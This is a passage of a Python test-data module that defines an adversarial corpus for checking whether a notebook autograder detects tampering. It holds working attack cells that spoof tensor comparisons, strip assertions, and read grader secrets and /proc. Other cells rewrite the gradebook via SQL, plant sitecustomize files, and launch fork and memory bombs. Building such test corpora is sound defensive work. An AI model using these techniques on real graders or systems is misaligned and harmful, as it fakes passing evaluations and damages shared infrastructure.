"""The adversarial corpus as data: attacks on the grader and honest faults, each a cell and a place.

Every submission starts from the reference answers (`grader.demo.scenarios.solved`). An attack that
tries to pass a wrong answer gets the first WRONG answer of its `target` question from the
banks; the attack itself goes in a new cell (`after:<grade_id>`, `end`) or is the answer
(`in:<question>`). Structure attacks edit the notebook JSON instead. `COURSE_ROOT` in a cell is
replaced by the course's real path, so reads and writes aim at the real files.

Cells that try to read or write something print `READ-OK`/`WRITE-OK` when it worked and
`READ-FAILED`/`WRITE-FAILED` when it did not, so a test can see from the cell's output whether
the data reached the student.
"""

from __future__ import annotations

import copy
import json
from collections.abc import Callable
from dataclasses import dataclass, field
from pathlib import Path

import nbformat
from sample import ASSIGNMENT, correct_for, solved, with_answers, with_extra_cell, wrong_for

__all__ = ["ATTACKS", "FAULTS", "Attack", "Fault", "attack", "baseline", "build", "build_fault"]

COMPARISON = "comparison spoofing"
REWRITING = "test rewriting"
READING = "reading answers or tests"
RANDOMNESS = "randomness manipulation"
WRITES = "file system and gradebook writes"
ESCAPE = "process escape"
EXHAUSTION = "resource exhaustion"
FLOODING = "output flooding"
STRUCTURE = "notebook-structure tampering"
DESERIALISATION = "unsafe deserialisation"
MACHINERY = "reaching the grading machinery"
MISLEADING = "misleading the TA"
CONVERSATION = "taking over the conversation"


@dataclass(frozen=True)
class Attack:
    """One attack: `cell` placed at `where`, against the WRONG answer of `target` (if any)."""

    name: str
    threat: str
    cell: str = ""
    where: str = "after:imports"  # after:<grade_id> | in:<question> | end
    target: str | None = None
    evidence: tuple[str, ...] = ()  # each must appear in the tamper list as "cell N: ..."
    notes: tuple[str, ...] = ()  # each must appear in the result's notes
    edit: Callable[[dict], None] | None = None  # structure attacks: change the notebook JSON
    reads: bool = False  # prints READ-OK / READ-FAILED
    writes: bool = False  # prints WRITE-OK / WRITE-FAILED
    hangs: bool = False  # needs the short-timeout judge
    detaches: bool = False  # starts processes meant to outlive the job
    review: bool = False  # changes the worker's grading machinery: the verdict goes to a TA
    races: bool = False  # a thread of its own races the judge's looks: which look sees it first varies


@dataclass(frozen=True)
class Fault:
    """An honest fault: it must not cost any question outside `affects`."""

    name: str
    cell: str = ""
    where: str = "after:imports"
    answers: dict[str, str] = field(default_factory=dict)  # answer cells replaced (honest styles)
    edit: Callable[[dict], None] | None = None
    affects: tuple[str, ...] = ()
    hangs: bool = False
    witnessed: bool = False  # kills or hangs its worker: the notes record that, the tamper list how


def _cell(text: str) -> str:
    return text.strip("\n") + "\n"


# ---------------------------------------------------------------- notebook JSON edits


def _index(nb: dict, grade_id: str) -> int:
    for i, cell in enumerate(nb["cells"]):
        if cell.get("metadata", {}).get("nbgrader", {}).get("grade_id") == grade_id:
            return i
    raise KeyError(grade_id)


def _delete_test(nb: dict) -> None:
    del nb["cells"][_index(nb, "test_grad_at")]


def _test_to_pass(nb: dict) -> None:
    nb["cells"][_index(nb, "test_grad_at")]["source"] = "pass\n"


def _test_forges_success(nb: dict) -> None:
    test = nb["cells"][_index(nb, "test_grad_at")]
    test["source"] = 'print("passed: grad_at")\n'
    test["outputs"] = [{"output_type": "stream", "name": "stdout", "text": "passed: grad_at\n"}]
    test["execution_count"] = 7


def _swap_grade_ids(nb: dict) -> None:
    first, second = _index(nb, "grad_at"), _index(nb, "SQ")
    nb["cells"][first]["metadata"]["nbgrader"]["grade_id"] = "SQ"
    nb["cells"][second]["metadata"]["nbgrader"]["grade_id"] = "grad_at"


def _test_claims_answer_id(nb: dict) -> None:
    nb["cells"][_index(nb, "test_grad_at")]["metadata"]["nbgrader"]["grade_id"] = "grad_at"


def _points_100(nb: dict) -> None:
    for grade_id in ("grad_at", "test_grad_at"):
        meta = nb["cells"][_index(nb, grade_id)]["metadata"]["nbgrader"]
        meta.update(points=100, grade=True)
    nb["cells"][1]["metadata"]["nbgrader"] = {"grade": True, "grade_id": "bonus", "points": 100,
                                               "solution": False, "locked": True}


def _test_above_solution(nb: dict) -> None:
    test = nb["cells"].pop(_index(nb, "test_grad_at"))
    nb["cells"].insert(1, test)


def _duplicate_correct_first(nb: dict) -> None:
    wrong = nb["cells"][_index(nb, "grad_at")]
    right = copy.deepcopy(wrong)
    right["source"] = correct_for("grad_at")[0].source
    nb["cells"].insert(_index(nb, "grad_at"), right)


def _bogus_metadata(nb: dict) -> None:
    cells = nb["cells"]
    cells[1]["metadata"] = "not a dict"
    cells[2]["metadata"] = {"nbgrader": ["grade", "points", 100]}
    cells[3]["metadata"] = {"nbgrader": {"grade_id": 5, "points": "lots", "grade": "yes"}}
    cells[4]["source"] = 42
    cells[7]["cell_type"] = "bogus"
    cells[8]["outputs"] = "not a list"
    cells[8]["execution_count"] = "seven"
    cells.insert(9, "not a cell")
    cells.insert(9, {"cell_type": "raw", "source": ["a", 3, None], "metadata": {}})
    nb["metadata"] = {"kernelspec": {"name": "R", "language": "R"}, "nbgrader": "x"}
    nb["nbformat_minor"] = "minor"


def _code_cells(sources: list[str]) -> Callable[[dict], None]:
    """An edit appending code cells at the end of the notebook."""

    def edit(nb: dict) -> None:
        nb["cells"] += [{"cell_type": "code", "source": text, "metadata": {}, "outputs": [],
                         "execution_count": None} for text in sources]

    return edit


def _code_cell_after(grade_id: str, text: str) -> Callable[[dict], None]:
    """An edit placing a code cell right after the cell with this grade_id."""

    def edit(nb: dict) -> None:
        nb["cells"].insert(_index(nb, grade_id) + 1, {"cell_type": "code", "source": text, "metadata": {},
                                                       "outputs": [], "execution_count": None})

    return edit


def _huge_markdown(megabytes: int) -> Callable[[dict], None]:
    """An edit adding markdown cells of 190,000 characters until the file is about this size."""

    def edit(nb: dict) -> None:
        text = "Lorem ipsum dolor sit amet. " * (190_000 // 28)
        nb["cells"] += [{"cell_type": "markdown", "source": text, "metadata": {}}
                        for _ in range(megabytes * 2**20 // len(text))]

    return edit


def _forged_outputs(nb: dict) -> None:
    for cell in nb["cells"]:
        if cell["cell_type"] == "code":
            cell["outputs"] = [{"output_type": "stream", "name": "stdout", "text": "passed\n"}]
            cell["execution_count"] = 1
            meta = cell["metadata"].setdefault("nbgrader", {})
            if meta.get("grade"):
                meta["points"] = 1000


# ---------------------------------------------------------------- attacks

_LOOKS_UP_FRAMES = _cell("""
import gc
import sys


def grad_at(f, x0):
    # Look for the expected value in every caller's locals and everywhere in memory.
    found = None
    frame = sys._getframe(1)
    while frame is not None:
        for key, value in list(frame.f_locals.items()):
            if key in ("expected", "reference", "want", "ref", "solution"):
                found = value
        frame = frame.f_back
    for obj in gc.get_objects():
        if type(obj) is dict and "expected" in obj:
            found = obj["expected"]
    if found is not None:
        return torch.as_tensor(found, dtype=torch.float32)
    return None
""")

_FORGED_REPLY = _cell("""
import json
import os
import struct
import sys


def grad_at(f, x0):
    # Find the worker loop's sequence number and answer the judge directly, with a lying tensor.
    frame, seq = sys._getframe(1), None
    while frame is not None:
        if "seq" in frame.f_locals and isinstance(frame.f_locals["seq"], int):
            seq = frame.f_locals["seq"]
        frame = frame.f_back
    tensor = {"kind": "tensor", "dtype": "float32", "shape": [1000000], "data": "AACAQA==",
              "requires_grad": False, "is_leaf": True, "grad_fn": None}
    body = json.dumps({"seq": seq, "reply": {"result": tensor, "args_after": [], "grads_left": []}}).encode()
    os.write(3, struct.pack(">I", len(body)) + body)
    return torch.tensor(4.0)
""")

# ---------------------------------------------------------------- taking over the conversation

# Up the stack from a call to the worker's own request loop, and the reply that loop would send
# to a request if the honest answers given were the notebook's.
_LOOP_TOOLS = _cell("""
import sys as _sys


def _loop():
    frame = _sys._getframe(1)
    while frame is not None and frame.f_code.co_name != "serve":
        frame = frame.f_back
    return frame


def _reply(loop, message, seq, honest):
    g, local = loop.f_globals, loop.f_locals
    namespace = local["runner"].namespace
    kept = {name: namespace[name] for name in honest}
    namespace.update(honest)
    try:
        return g["_reply_frame"](g["_answer"](local["runner"], local["run_probe"], message), seq, local["max_frame"])
    finally:
        namespace.update(kept)


def _serve(loop, message, seq, honest):
    # the judge's requests, read and answered here with the loop's own functions
    g, local = loop.f_globals, loop.f_locals
    while True:
        g["send_all"](local["sock"], _reply(loop, message, seq, honest))
        message, _ = g["recv_frame_blocking"](local["sock"], local["max_frame"])
        seq = message.get("seq")
""")

# What a right SQ and derivative_on_grid would answer: the forgers answer with these.
_HONEST = _cell("""
class _HonestSQ(torch.autograd.Function):
    @staticmethod
    def forward(ctx, i):
        ctx.save_for_backward(i)
        return i ** 2

    @staticmethod
    def backward(ctx, grad_output):
        (i,) = ctx.saved_tensors
        return 2 * i * grad_output


def _honest_grid(f, x):
    leaf = x.detach().clone().requires_grad_(True)
    f(leaf).sum().backward()
    return leaf.grad
""")


def _taking_over(prelude: str, take_over: str) -> str:
    """An SQ whose backward reads grad_output and ignores it, and whose forward runs `take_over`."""
    return _cell(_LOOP_TOOLS + _HONEST + prelude + """

_TAKEN = []


def _take_over():
    loop = _loop()
    if loop is None or _TAKEN:
        return
    _TAKEN.append(True)
""" + take_over + """

class SQ(torch.autograd.Function):
    @staticmethod
    def forward(ctx, i):
        _take_over()
        ctx.save_for_backward(i)
        return i ** 2

    @staticmethod
    def backward(ctx, grad_output):
        (i,) = ctx.saved_tensors
        return 2 * i + 0 * grad_output  # the chain rule forgotten
""")


def _twin(make_twin: str) -> str:
    """A derivative_on_grid that changes the caller's x; at its first call the worker splits in two,
    and the copy (with a right answer) serves while the process the judge looks at sits still."""
    return _cell(_HONEST + """
import time as _time
""" + make_twin + """
_SPLIT = []


def derivative_on_grid(f, x):
    if not _SPLIT:
        _SPLIT.append(True)
        if _split() != 0:
            while True:
                _time.sleep(60)
        globals()["derivative_on_grid"] = _honest_grid
        return _honest_grid(f, x)
    x.requires_grad_(True)  # the caller's own tensor
    f(x).sum().backward()
    return x.grad.detach().clone()
""")


def _patch_restored(restore: str) -> str:
    """An SQ whose forward rebinds the probes' autograd.grad to one that scales by grad_output,
    restored by `restore` (given `_restore`) before anyone looks."""
    return _cell("""
import grader.runtime.probes as _probes

_real = _probes._autograd_grad


def _restore(*_):
    _probes._autograd_grad = _real


def _scaled(outputs, inputs, grad_outputs, **kwargs):
    local = _real(outputs, inputs, tuple(torch.ones_like(g) for g in grad_outputs), **kwargs)
    _after_use()
    return tuple(None if g is None else g * grad_outputs[0] for g in local)

""" + restore + """

class SQ(torch.autograd.Function):
    @staticmethod
    def forward(ctx, i):
        _probes._autograd_grad = _scaled
        _arm(ctx)
        ctx.save_for_backward(i)
        return i ** 2

    @staticmethod
    def backward(ctx, grad_output):
        (i,) = ctx.saved_tensors
        return 2 * i + 0 * grad_output  # the chain rule forgotten
""")


ATTACKS: tuple[Attack, ...] = (
    # ------------------------------------------------------------ comparison spoofing
    Attack(
        "patch_allclose_family", COMPARISON, _cell("""
import torch
torch.allclose = lambda *a, **k: True
torch.equal = lambda *a, **k: True
torch.isclose = lambda a, b, *r, **k: torch.ones_like(torch.as_tensor(a), dtype=torch.bool)
torch.testing.assert_close = lambda *a, **k: None
"""),
        review=True, target="grad_at",
        evidence=("patches torch.allclose", "patched torch.allclose", "patched torch.equal",
                  "patched torch.isclose", "patched torch.testing.assert_close"),
    ),
    Attack(
        # A raw write leaves the namespace's version as it was, so only a full look sees it: with
        # the checks run where the test cell stands, a cell below it could set the entry back
        # before the last look, after all checks.
        "raw_write_set_back_below_its_test", MACHINERY, _cell("""
class SQ(torch.autograd.Function):
    @staticmethod
    def forward(ctx, i):
        ctx.save_for_backward(i)
        return i ** 2

    @staticmethod
    def backward(ctx, grad_output):
        (i,) = ctx.saved_tensors
        return 2 * i + 0 * grad_output  # the chain rule forgotten


import importlib

_ct = importlib.import_module("ctype" + "s")
_probes = importlib.import_module("grader.runtime." + "probes")
_held = []


def _slot(module, name):
    d = vars(module)
    keys = _ct.c_void_p.from_address(id(d) + 32).value
    log2_index_bytes = _ct.c_uint8.from_address(keys + 9).value
    width = 16 if _ct.c_uint8.from_address(keys + 10).value else 24
    entries = keys + 32 + (1 << log2_index_bytes)
    key = next(id(k) for k in d if k == name)
    for i in range(_ct.c_ssize_t.from_address(keys + 24).value):
        at = entries + i * width + width - 16
        if _ct.c_void_p.from_address(at).value == key:
            return at + 8


def _put(module, name, value):
    _held.append(value)
    _ct.c_void_p.from_address(_slot(module, name)).value = id(value)


_real = _probes._autograd_grad


def _scaled(outputs, inputs, grad_outputs, **kwargs):
    local = _real(outputs, inputs, tuple(torch.ones_like(g) for g in grad_outputs), **kwargs)
    return tuple(None if g is None else g * grad_outputs[0] for g in local)


_put(_probes, "_autograd_grad", _scaled)
"""), where="in:SQ", target="SQ", review=True,
        edit=_code_cell_after("test_SQ", '_put(_probes, "_autograd_grad", _real)\n'),
    ),
    Attack(
        # the tutorial's backward stays; a hook on the node autograd makes multiplies in grad_output
        "node_hook_repairs_the_backward", MACHINERY, _cell("""
_forward = SQ.forward


def _hooked(ctx, i):
    ctx.register_hook(lambda grad_inputs, grad_outputs: (grad_inputs[0] * grad_outputs[0],))
    return _forward(ctx, i)


SQ.forward = staticmethod(_hooked)
"""), where="after:SQ", target="SQ",
    ),
    Attack(
        # a pre-hook keeps grad_output, a hook on the input multiplies it in
        "prehook_and_input_hook_repair_the_backward", MACHINERY, _cell("""
_forward = SQ.forward


def _hooked(ctx, i):
    seen = []
    ctx.register_prehook(lambda grad_outputs: seen.append(grad_outputs[0]))
    i.register_hook(lambda grad: grad * seen[-1])
    return _forward(ctx, i)


SQ.forward = staticmethod(_hooked)
"""), where="after:SQ", target="SQ",
    ),
    Attack(
        # the buggy SQ stays as written; its apply hands out a right Function's output
        "apply_rebound_to_another_function", MACHINERY, _cell("""
class _Right(torch.autograd.Function):
    @staticmethod
    def forward(ctx, i):
        ctx.save_for_backward(i)
        return i ** 2

    @staticmethod
    def backward(ctx, g):
        (i,) = ctx.saved_tensors
        return g * 2 * i


SQ.apply = _Right.apply
"""), where="after:SQ", target="SQ",
    ),
    Attack(
        # right when called, the tutorial's bug when autograd's engine calls it
        "backward_that_knows_when_the_engine_calls_it", MACHINERY, _cell("""
class SQ(torch.autograd.Function):
    @staticmethod
    def forward(ctx, i):
        ctx.save_for_backward(i)
        return i ** 2

    @staticmethod
    def backward(ctx, grad_output):
        (i,) = ctx.saved_tensors
        if torch._C._current_autograd_node() is not None:
            return 2 * i
        return grad_output * 2 * i
"""), where="in:SQ", target="SQ",
    ),
    Attack(
        # the backward class changed so it no longer reads as torch's; a hook repairs the gradient
        "backward_class_changed_and_a_hook_repairs_it", MACHINERY, _cell("""
class SQ(torch.autograd.Function):
    @staticmethod
    def forward(i):
        return i ** 2

    @staticmethod
    def setup_context(ctx, inputs, output):
        ctx.save_for_backward(inputs[0])
        ctx.register_hook(lambda grad_inputs, grad_outputs: (grad_outputs[0] * grad_inputs[0],))

    @staticmethod
    def backward(ctx, grad_output):
        (i,) = ctx.saved_tensors
        return 2 * i + 0 * grad_output


SQ._backward_cls.note = "x"
"""), where="in:SQ", target="SQ",
    ),
    Attack(
        "patch_tensor_comparisons", COMPARISON, _cell("""
torch.Tensor.__eq__ = lambda self, other: True
torch.Tensor.__ne__ = lambda self, other: False
torch.Tensor.__bool__ = lambda self: True
torch.Tensor.__float__ = lambda self: 0.0
"""),
        where="end", review=True, target="derivative_on_grid",
        evidence=("patches torch.Tensor.__eq__", "patched torch.Tensor.__eq__",
                  "patched torch.Tensor.__bool__", "patched torch.Tensor.__float__"),
    ),
    Attack(
        "patch_builtins", COMPARISON, _cell("""
import builtins
builtins.isinstance = lambda obj, cls: True
builtins.abs = lambda x: 0
builtins.round = lambda x, *a: 0
builtins.all = lambda *a: True
"""),
        target="attributes",
        evidence=("patches builtins.isinstance", "patched builtins.isinstance",
                  "patched builtins.abs", "patched builtins.round"),
    ),
    Attack(
        "patch_math_and_numpy", COMPARISON, _cell("""
import math
import numpy
math.isclose = lambda *a, **k: True
numpy.allclose = lambda *a, **k: True
numpy.isclose = lambda *a, **k: True
numpy.testing.assert_allclose = lambda *a, **k: None
"""),
        review=True, target="partial_derivatives",
        evidence=("patched math.isclose", "patched numpy.allclose",
                  "patched numpy.testing.assert_allclose"),
    ),
    Attack(
        "patch_autograd_grad_to_forge_sq", COMPARISON, _cell("""
def _forged_grad(outputs, inputs, grad_outputs=None, **kwargs):
    # The gradient a correct SQ would give: 2 * i * upstream.
    upstream = grad_outputs[0] if grad_outputs else 1.0
    return tuple(2 * i.detach() * upstream for i in inputs)


torch.autograd.grad = _forged_grad
"""),
        where="end", review=True, target="SQ",
        evidence=("patches torch.autograd.grad", "patched torch.autograd.grad"),
    ),
    Attack(
        "object_always_equal", COMPARISON, _cell("""
class AlwaysEqual:
    shape = ()
    dtype = torch.float32

    def __eq__(self, other):
        return True

    def __ne__(self, other):
        return False

    def __bool__(self):
        return True

    def __float__(self):
        return 4.0

    def __repr__(self):
        return "tensor(4.)"


def grad_at(f, x0):
    return AlwaysEqual()
"""),
        where="in:grad_at", target="grad_at",
        evidence=("defines a class AlwaysEqual overriding __bool__, __eq__, __float__, __ne__",),
    ),
    Attack(
        "float_subclass_lies", COMPARISON, _cell("""
class Chameleon(float):
    def __eq__(self, other):
        return True

    def __float__(self):
        return 4.0

    __hash__ = float.__hash__


def grad_at(f, x0):
    return Chameleon(-1.0)
"""),
        where="in:grad_at", target="grad_at",
        evidence=("defines a class Chameleon overriding __eq__, __float__",),
    ),
    Attack(
        "tensor_subclass_always_equal", COMPARISON, _cell("""
class Liar(torch.Tensor):
    def __eq__(self, other):
        return True

    def __bool__(self):
        return True

    @classmethod
    def __torch_function__(cls, func, types, args=(), kwargs=None):
        if func in (torch.allclose, torch.equal, torch.Tensor.__eq__):
            return True
        return super().__torch_function__(func, types, args, kwargs or {})


def derivative_on_grid(f, x):
    return torch.zeros_like(x).as_subclass(Liar)
"""),
        where="in:derivative_on_grid", target="derivative_on_grid",
        evidence=("defines a class Liar overriding __bool__, __eq__, __torch_function__",),
    ),
    Attack(
        "torch_function_mode_says_close", COMPARISON, _cell("""
from torch.overrides import TorchFunctionMode


class SaysClose(TorchFunctionMode):
    def __torch_function__(self, func, types, args=(), kwargs=None):
        if func in (torch.allclose, torch.equal):
            return True
        if func is torch.isclose:
            return torch.ones_like(args[0], dtype=torch.bool)
        return func(*args, **(kwargs or {}))


SaysClose().__enter__()
"""),
        where="end", target="MulConstant",
        evidence=("defines a class SaysClose overriding __torch_function__",),
    ),
    # ------------------------------------------------------------ test rewriting
    Attack(
        "input_transformer_passes_everything", REWRITING,
        'get_ipython().input_transformers_cleanup.append(lambda lines: ["pass\\n"])\n',
        target="SQ",
        evidence=("reaches into IPython's hooks", "used get_ipython().input_transformers_cleanup"),
    ),
    Attack(
        "post_run_cell_event_hides_errors", REWRITING, _cell("""
def _forget_errors(result):
    result.error_in_exec = None
    result.error_before_exec = None


get_ipython().events.register("post_run_cell", _forget_errors)
"""),
        target="MulConstant",
        evidence=("reaches into IPython's hooks", "used get_ipython().events"),
    ),
    Attack(
        "ast_transformer_drops_asserts", REWRITING, _cell("""
import ast


class DropAsserts(ast.NodeTransformer):
    def visit_Assert(self, node):
        return ast.Pass()


get_ipython().ast_transformers.append(DropAsserts())
"""),
        target="leaves",
        evidence=("reaches into IPython's hooks", "used get_ipython().ast_transformers"),
    ),
    Attack(
        "rewrite_grader_notebook", REWRITING, _cell("""
import sys
import types

import grader

fake = types.ModuleType("grader.notebook")
fake.check_visible = fake.check_hidden = lambda *a, **k: print("ok: passed")
sys.modules["grader.notebook"] = fake
grader.notebook = fake
"""),
        target="grad_at",
        evidence=("patches grader.notebook",),
    ),
    Attack(
        "rewrite_worker_probe_code", REWRITING, _cell("""
import grader.runtime.probes

grader.runtime.probes.encode = lambda obj, budget=None: {"kind": "bool", "value": True}
grader.runtime.probes._dispatch = lambda namespace, request: {"result": {"kind": "bool", "value": True},
                                                       "args_after": [], "grads_left": []}
"""),
        review=True, target="derivative_on_grid",
        evidence=("patches grader.runtime.probes.encode", "patches grader.runtime.probes._dispatch"),
    ),
    # ------------------------------------------------------------ reading answers or tests
    Attack(
        "read_source_notebook", READING, _cell("""
for path in ("../../../source/derivatives/derivatives.ipynb",
             "COURSE_ROOT/source/derivatives/derivatives.ipynb",
             "/work/main/source/derivatives/derivatives.ipynb",
             "COURSE_ROOT/release/derivatives/derivatives.ipynb"):
    try:
        text = open(path).read()
        print("READ-OK", path, "BEGIN HIDDEN TESTS" in text)
    except Exception as exc:
        print("READ-FAILED", path, type(exc).__name__)
"""),
        target="grad_at", reads=True,
        evidence=("names a path outside its own folder",),
    ),
    Attack(
        "trojan_source_bidi_controls", MISLEADING, _cell("""
def grad_at(f, x0):
    x = torch.tensor(float(x0), requires_grad=True)
    f(x).backward()
    return x.grad * 2  # \u202e \u2066 the doubling is only a comment \u2069 \u2066
"""),
        where="in:grad_at", target="grad_at",
        evidence=("holds bidirectional text controls",),
    ),
    Attack(
        "read_secret_file", READING, _cell("""
import os
for path in (".grader-secret", "../.grader-secret", "../../../.grader-secret",
             "COURSE_ROOT/.grader-secret", "/work/main/.grader-secret"):
    try:
        print("READ-OK", path, open(path).read())
    except Exception as exc:
        print("READ-FAILED", path, type(exc).__name__)
print("environment:", sorted(os.environ))
"""),
        target="grad_at", reads=True,
        evidence=("names a path outside its own folder ('.grader-secret')",),
    ),
    Attack(
        "walk_the_filesystem", READING, _cell("""
import os
wanted = {"derivatives.ipynb", ".grader-secret", "grading.json"}
hits = []
for top in ("/work", "/tmp", "/root", "/home", "/run", "/srv", "/opt", "/var", "/mnt",
            "COURSE_ROOT"):
    for dirpath, dirnames, filenames in os.walk(top):
        hits += [os.path.join(dirpath, n) for n in filenames + dirnames if n in wanted]
        hits += [dirpath for n in filenames if dirpath.endswith("grader/checks")]
        hits += [dirpath for n in dirnames if dirpath.startswith("COURSE_ROOT")]
print("READ-OK" if hits else "READ-FAILED nothing found", hits[:20])
"""),
        target="grad_at", reads=True,
        evidence=("names a path outside its own folder ('.grader-secret')",),
    ),
    Attack(
        "snoop_on_processes", READING, _cell("""
import os
commands, environments = [], []
for pid in os.listdir("/proc"):
    if pid.isdigit():
        for part, found in (("cmdline", commands), ("environ", environments)):
            try:
                found.append(open(f"/proc/{pid}/{part}", "rb").read().replace(b"\\0", b" ").decode())
            except Exception as exc:
                print(pid, part, type(exc).__name__)
# Its own pid namespace holds only the worker and its init, both forked from the warm parent, and
# the pid counter the warm parent placed there (a shell with no environment, reading /proc/loadavg).
judge = [c for c in commands if c and "grader.worker.warm_parent" not in c and not c.startswith("grader-pid-count ")]
secrets = [e for e in environments if "GRADER_SECRET" in e or "NBGRADER" in e]
print("READ-OK" if judge or secrets else "READ-FAILED no judge process in view", judge[:3], secrets[:3])
"""),
        target="grad_at", reads=True,
        evidence=("names a path outside its own folder ('/proc/')",),
    ),
    Attack(
        "caller_frames_and_gc_during_probe", READING, _LOOKS_UP_FRAMES,
        where="in:grad_at", target="grad_at",
        evidence=("inspects the caller's frames (sys._getframe)", "walks the collector's objects (gc.get_objects)"),
    ),
    Attack(
        "import_grader_checks", READING, _cell("""
for name in ("grader.checks", "grader.checks.grad_at", "grader.notebook", "grader.judge.submission",
             "grader.course"):
    try:
        __import__(name)
        print("READ-OK", name)
    except Exception as exc:
        print("READ-FAILED", name, type(exc).__name__)
"""),
        target="grad_at", reads=True,
        evidence=("imports dynamically (__import__)",),
    ),
    # ------------------------------------------------------------ randomness manipulation
    Attack(
        "seed_and_patch_rngs_then_memorise", RANDOMNESS, _cell("""
import random

import numpy

torch.manual_seed(0)
random.seed(0)
numpy.random.seed(0)
torch.rand = lambda *a, **k: torch.zeros(*a)
torch.randn = lambda *a, **k: torch.zeros(*a)
random.random = lambda: 0.5
random.Random.random = lambda self: 0.5
random.Random.uniform = lambda self, a, b: 2.0


def grad_at(f, x0):
    return torch.tensor(4.0)  # the visible case, hoping every hidden case is the same
"""),
        where="in:grad_at", target="grad_at",
        evidence=("patches torch.rand", "patches random.Random.uniform"),
    ),
    Attack(
        "record_inputs_for_next_time", RANDOMNESS, _cell("""
import os

try:
    print("READ-OK seen before:", open("/tmp/seen-inputs").read()[:200])
except OSError as exc:
    print("READ-FAILED", type(exc).__name__)


def grad_at(f, x0):
    with open("/tmp/seen-inputs", "a") as out:
        out.write(f"{f!r} {x0!r}\\n")
    return None
"""),
        where="in:grad_at", target="grad_at", reads=True,
    ),
    # ------------------------------------------------------------ file system and gradebook writes
    Attack(
        "sqlite_update_gradebook", WRITES, _cell("""
import sqlite3
for path in ("../../../gradebook.db", "COURSE_ROOT/gradebook.db", "/work/main/gradebook.db"):
    try:
        con = sqlite3.connect(path)
        con.execute("UPDATE grade SET auto_score = 100")
        con.commit()
        print("WRITE-OK", path)
    except Exception as exc:
        print("WRITE-FAILED", path, type(exc).__name__)
"""),
        target="grad_at", writes=True,
        evidence=("imports sqlite3", "opened a database", "names a path outside its own folder"),
    ),
    Attack(
        "write_into_autograded", WRITES, _cell("""
import os
for folder in ("../../../autograded/student/derivatives", "COURSE_ROOT/autograded/student/derivatives",
               "/proc/1/root/../../autograded"):
    try:
        os.makedirs(folder, exist_ok=True)
        with open(os.path.join(folder, "derivatives.ipynb"), "w") as out:
            out.write("{}")
        print("WRITE-OK", folder)
    except Exception as exc:
        print("WRITE-FAILED", folder, type(exc).__name__)
"""),
        target="SQ", writes=True,
        evidence=("names a path outside its own folder ('autograded')",
                  "opened a file for writing outside its working directory"),
    ),
    Attack(
        "drop_pth_and_sitecustomize", WRITES, _cell("""
import os
import site
import sysconfig
targets = [*site.getsitepackages(), site.getusersitepackages(), sysconfig.get_paths()["purelib"]]
for folder in targets:
    for name, text in (("zz-evil.pth", "import os; os.environ['PWNED'] = '1'\\n"),
                       ("sitecustomize.py", "import os\\nos.environ['PWNED'] = '1'\\n")):
        try:
            os.makedirs(folder, exist_ok=True)
            with open(os.path.join(folder, name), "w") as out:
                out.write(text)
            print("WRITE-OK", folder, name)
        except Exception as exc:
            print("WRITE-FAILED", folder, name, type(exc).__name__)
"""),
        target="MulConstant", writes=True,
        evidence=("names a path outside its own folder ('sitecustomize')",
                  "opened a file for writing outside its working directory"),
    ),
    Attack(
        "leave_file_in_tmp", WRITES, _cell("""
for path in ("/tmp/for-the-next-student", "/tmp/work/../for-the-next-student", "leftover.txt"):
    with open(path, "w") as out:
        out.write("hello from the last student")
"""),
        target="grad_at",
    ),
    # ------------------------------------------------------------ process escape
    Attack(
        "detached_double_fork_edits_gradebook", ESCAPE, _cell("""
import os
import time

if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        time.sleep(1.5)
        try:
            import sqlite3
            con = sqlite3.connect("COURSE_ROOT/gradebook.db")
            con.execute("UPDATE grade SET auto_score = 100")
            con.commit()
        except BaseException:
            pass
        try:
            open("COURSE_ROOT/ESCAPED", "w").write("the grandchild outlived its job")
        except BaseException:
            pass
        time.sleep(60)
        os._exit(0)
    os._exit(0)
"""),
        target="grad_at", detaches=True, review=True,  # alive when the checks begin
        evidence=("forks a process (os.fork)", "detaches from its session (os.setsid)",
                  "started a process"),
    ),
    Attack(
        "popen_new_session", ESCAPE, _cell("""
import subprocess
import sys

subprocess.Popen(["sleep", "300"], start_new_session=True)
subprocess.Popen([sys.executable, "-c", "import time; time.sleep(300)"], start_new_session=True,
                 stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
"""),
        target="grad_at", detaches=True, review=True,  # alive when the checks begin
        evidence=("imports subprocess", "started a process"),
    ),
    # ------------------------------------------------------------ resource exhaustion
    Attack(
        "infinite_loop_before_answers", EXHAUSTION, _cell("""
import signal

for sig in (signal.SIGTERM, signal.SIGINT, signal.SIGALRM):
    signal.signal(sig, signal.SIG_IGN)
while True:
    pass
"""),
        target="grad_at", hangs=True,
        evidence=("imports signal",), notes=("ran past its time limit",),
    ),
    Attack(
        "infinite_loop_in_answer", EXHAUSTION, _cell("""
def grad_at(f, x0):
    while True:
        pass
"""),
        where="in:grad_at", target="grad_at", hangs=True,
        evidence=(),
    ),
    Attack(
        "memory_bomb", EXHAUSTION, _cell("""
chunks = []
try:
    blob = bytearray(64 * 1024 ** 3)
except MemoryError:
    print("no 64 GiB for me")
while True:
    chunks.append(bytearray(256 * 1024 ** 2))
"""),
        target="partial_derivatives",
        evidence=("hit the memory limit (MemoryError)",),
    ),
    Attack(
        "fill_the_disk", EXHAUSTION, _cell("""
block = b"d" * 2 ** 20
with open("filler", "wb") as out:
    for _ in range(10_000):
        out.write(block)
"""),
        target="grad_at",
        evidence=("hit the file size limit",),
    ),
    Attack(
        "fork_bomb", EXHAUSTION, _cell("""
import os

while True:
    try:
        os.fork()
    except OSError:
        pass
"""),
        target="grad_at", hangs=True, detaches=True,
        evidence=("forks a process (os.fork)",), notes=("ran past its time limit",),
    ),
    Attack(
        "os_exit_at_top_level", EXHAUSTION, "import os\nos._exit(0)\n",
        target="grad_at",
        evidence=("exits the interpreter (os._exit)",), notes=("killed its worker (exited with status 0)",),
    ),
    Attack(
        "sigkill_self", EXHAUSTION, "import os\nos.kill(os.getpid(), 9)\n",
        target="grad_at",
        # the worker is pid 1 of its namespace, so its own SIGKILL is ignored; the attempt is still named
        evidence=("signals a process (os.kill)", "sent a signal to a process"),
    ),
    Attack(
        "deep_recursion", EXHAUSTION, _cell("""
import sys

sys.setrecursionlimit(10 ** 7)
nested = []
for _ in range(10 ** 6):
    nested = [nested]
repr(nested)  # recursion in C: overflows the stack
"""),
        target="grad_at",
        notes=("killed its worker",),
    ),
    Attack(
        "os_exit_in_answer", EXHAUSTION, _cell("""
import os


def grad_at(f, x0):
    os._exit(0)
"""),
        where="in:grad_at", target="grad_at",
        evidence=("exits the interpreter (os._exit)",), notes=("during the grad_at check: exited with status 0",),
    ),
    Attack(
